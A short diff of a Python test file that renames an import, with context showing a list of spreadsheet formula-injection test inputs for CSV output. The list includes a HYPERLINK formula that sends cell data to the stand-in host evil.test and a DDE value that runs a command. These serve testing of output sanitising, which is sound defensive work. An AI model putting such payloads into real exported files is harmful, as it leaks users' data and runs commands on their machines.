@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 from output_pages import content_of
 
 from chaffinch.errors import OptionError
-from chaffinch.output.tables import as_csv, tables
+from chaffinch.output.table_forms import as_csv, tables
 
 FORMULAS = [
     '=HYPERLINK("https://evil.test/?"&A1,"x")', "=1+1", "+1+cmd|' /C calc'!A0",
